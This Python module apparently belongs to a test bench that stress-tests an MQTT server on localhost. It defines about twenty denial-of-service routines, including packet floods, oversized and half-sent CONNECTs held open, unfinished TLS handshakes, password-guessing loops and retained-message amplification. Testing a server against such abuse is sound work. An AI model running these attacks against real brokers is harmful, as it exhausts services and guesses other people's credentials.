"""Packets and connections without end: what is no request, and costs the server all the same."""

from __future__ import annotations

import contextlib
import itertools
import os
import socket
import threading
import time

from bench.attacks import wire
from bench.attacks.foe import FOE, GROUP, MEMBERS, PREFIX, STAR, WINDOW, Attack, Foe, Ports, at_once, forever, ids

_ids = ids()


def pings(ports: Ports) -> None:
    at_once(2, lambda: forever(ports.mqtt, lambda foe: foe.send(wire.PINGREQ * 10_000), reads=False))


def acknowledgements(ports: Ports) -> None:
    at_once(2, lambda: forever(ports.mqtt, lambda foe: foe.send((wire.PUBACK_HEAD + b"\x12\x34") * 10_000)))


def subscriptions(ports: Ports) -> None:
    filters = b"".join(wire.text(f"{PREFIX}/{FOE}/{number}/down") + b"\1" for number in range(990))
    body = b"\0\1" + filters
    forever(ports.mqtt, lambda foe: foe.send(b"\x82" + wire.remaining_length(len(body)) + body))


def presences(ports: Ports) -> None:
    body = b"\0\1" + b"".join(wire.text(f"{PREFIX}/{name}/presence") + b"\0" for name in MEMBERS[:500])
    forever(ports.mqtt, lambda foe: foe.send(b"\x82" + wire.remaining_length(len(body)) + body))


def comes_and_goes(ports: Ports) -> None:
    """The one whom every member of the group watches."""
    while True:
        with contextlib.suppress(OSError):
            foe = Foe(ports.mqtt, user=STAR, device="d")
            foe.ask("settings", id=next(_ids), presence=True)
            time.sleep(0.02)
            foe.socket.close()


def logins(ports: Ports) -> None:
    def work() -> None:
        while True:
            with contextlib.suppress(OSError):
                Foe(ports.mqtt, listens=False).socket.close()

    at_once(4, work)


def guesses(ports: Ports) -> None:
    """Other passwords, of names that are there and names that are none."""
    numbers = itertools.count()

    def work() -> None:
        while True:
            with contextlib.suppress(OSError):
                number = next(numbers)
                Foe(ports.mqtt, user=f"user{number % 50}", listens=False, reads=False, password=f"guess{number}").socket.close()

    at_once(8, work)


def garbage(ports: Ports) -> None:
    forever(ports.mqtt, lambda foe: foe.send(b"".join(foe.raw(b"\xc1" * 200) for _ in range(WINDOW))))


def user_properties(ports: Ports) -> None:
    """Thousands of properties in one packet, which nobody looks at."""
    properties = b"\x26\0\1a\0\1b" * 35_000
    payload = b'{"op":"typing","to":"bob","on":true}'
    forever(ports.mqtt, lambda foe: foe.send(foe.raw(payload, properties)), version=wire.V5)


def greetings(ports: Ports) -> None:
    """The same before anybody has logged in."""
    connect = wire.connect("x", "nobody-yet", version=wire.V5, properties=b"\x26\0\1a\0\1b" * 35_000)

    def work() -> None:
        while True:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", ports.mqtt), timeout=30) as foe:
                foe.sendall(connect)
                foe.recv(4)

    at_once(4, work)


def half_greetings(ports: Ports) -> None:
    """Connections that have almost said who they are: 240 KB each that the server waits with."""
    head = b"\x10" + wire.remaining_length(250_000) + b"\0\4MQTT\4\x02\0\0" + b"\xff" * 240_000
    waiting: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            foe = socket.create_connection(("127.0.0.1", ports.mqtt), timeout=30)
            foe.settimeout(1)
            foe.sendall(head)
            waiting.append(foe)
        if len(waiting) > 3_000:
            waiting.pop(0).close()


def handshakes(ports: Ports) -> None:
    """TLS that is begun, and never ended."""
    hello = bytes.fromhex("1603010200010001fc0303") + os.urandom(32)
    waiting: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            foe = socket.create_connection(("127.0.0.1", ports.mqtts), timeout=30)
            foe.sendall(hello)
            waiting.append(foe)
        if len(waiting) > 3_000:
            waiting.pop(0).close()


def topic_aliases(ports: Ports) -> None:
    """Topics that are named, and named anew, and forbidden."""
    topics = itertools.cycle([f"{PREFIX}/{FOE}/{'x' * 60_000}{number}" for number in range(100)])
    alias = b"\x23\0\1"
    forever(ports.mqtt, lambda foe: foe.send(foe.publish(next(topics), b"", properties=alias)), version=wire.V5)


def long_filters(ports: Ports) -> None:
    """Filters of 60 KB that one may have, as many as one may have, in sessions that are kept."""
    numbers = itertools.count()

    def subscribe(foe: Foe) -> None:
        foe.send(foe.subscription([f"{PREFIX}/{FOE}/{'x' * 60_000}{next(numbers)}/down" for _ in range(4)]))

    at_once(8, lambda: forever(ports.mqtt, subscribe, clean=False, device=f"kept{next(numbers)}"))


def kept_sessions(ports: Ports) -> None:
    """New sessions that are to be kept, each with filters."""
    numbers = itertools.count()

    def work() -> None:
        while True:
            with contextlib.suppress(OSError):
                foe = Foe(ports.mqtt, device=f"kept{next(numbers)}", clean=False, listens=False, reads=False)
                foe.send(foe.subscription([f"plain/{foe.device}/{number}" for number in range(500)]))
                foe.socket.recv(1)
                foe.socket.close()

    at_once(4, work)


def wills(ports: Ports) -> None:
    """A device whose will is a message to a crowd, and who dies at once."""

    def work() -> None:
        while True:
            with contextlib.suppress(OSError):
                device = f"w{next(_ids)}"
                payload = b'{"op":"send","id":"%b","to":"%b","body":"farewell"}' % (device.encode(), GROUP.encode())
                will = (f"{PREFIX}/{FOE}/{device}/up", payload)
                Foe(ports.mqtt, device=device, listens=False, reads=False, will=will).socket.close()

    at_once(4, work)


def takes_over(ports: Ports) -> None:
    """One device that is in many places at once."""

    def work() -> None:
        while True:
            with contextlib.suppress(OSError):
                Foe(ports.mqtt, device="everywhere", clean=False).ask("hello")

    at_once(8, work)


def retained(ports: Ports) -> None:
    """As many retained messages as there may be, as large as they may be."""
    numbers = itertools.count()

    def keep(foe: Foe) -> None:
        foe.send(foe.publish(f"plain/r/{next(numbers) % 20_000}", b"x" * 250_000, qos=0, retain=True))

    forever(ports.mqtt, keep)


def retained_again(ports: Ports) -> None:
    """All that is retained, asked for with each of a thousand filters."""
    with contextlib.suppress(OSError):
        foe = Foe(ports.mqtt)
        for number in range(2_000):
            foe.send(foe.publish(f"plain/s/{number}", b"x", qos=0, retain=True))
    filters = ["plain/s/#", "plain/+/#", "plain/s/+"] * 300
    forever(ports.mqtt, lambda foe: foe.send(foe.subscription(filters)))


def overlapping(ports: Ports) -> None:
    """A message for fifteen sessions that match it a hundred times each."""
    parts = ["+", "x"]
    filters = ["plain/" + "/".join(choice) for choice in itertools.product(parts, repeat=9)]

    def listen() -> None:
        with contextlib.suppress(OSError):
            foe = Foe(ports.mqtt)
            foe.send(foe.subscription(filters))
            time.sleep(3_600)

    def shout() -> None:
        forever(ports.mqtt, lambda foe: foe.send(foe.publish("plain/" + "/".join("x" * 9), b"x" * 60_000) * WINDOW))

    for work in [listen] * 12 + [shout]:
        threading.Thread(target=work, daemon=True).start()
    shout()


def in_flight(ports: Ports) -> None:
    """Sessions that are kept, each with as much in flight as it may have."""
    numbers = itertools.count()

    def work() -> None:
        while True:
            with contextlib.suppress(OSError):
                foe = Foe(ports.mqtt, device=f"flies{next(numbers) % 90}", clean=False)
                topic = f"plain/f/{foe.device}"
                foe.send(foe.subscription([topic], qos=1))
                for _ in range(WINDOW):
                    foe.send(foe.publish(topic, b"x" * 250_000))
                time.sleep(0.1)
                foe.socket.close()

    at_once(4, work)


def twos(ports: Ports) -> None:
    """Messages at QoS 2 that are never released, and releases of what is none."""

    def send(foe: Foe) -> None:
        foe.send(foe.publish("plain/two", b"x", qos=2) * WINDOW + b"\x62\2\x12\x34" * WINDOW)

    forever(ports.mqtt, send, clean=False)


PACKETS: dict[str, Attack] = {
    "pings, unread": pings,
    "acknowledgements of nothing": acknowledgements,
    "subscriptions, 990 own": subscriptions,
    "subscriptions, 500 presences": presences,
    "one whom all watch comes and goes": comes_and_goes,
    "logins": logins,
    "guesses": guesses,
    "garbage": garbage,
    "35,000 user properties": user_properties,
    "CONNECTs of 240 KB": greetings,
    "CONNECTs that never end": half_greetings,
    "TLS that never begins": handshakes,
    "topic aliases of 60 KB": topic_aliases,
    "filters of 60 KB": long_filters,
    "kept sessions": kept_sessions,
    "wills to a crowd": wills,
    "one device everywhere": takes_over,
    "retained messages of 250 KB": retained,
    "retained messages, asked for 900 times": retained_again,
    "filters that overlap": overlapping,
    "messages in flight of 250 KB": in_flight,
    "QoS 2 that never ends": twos,
}
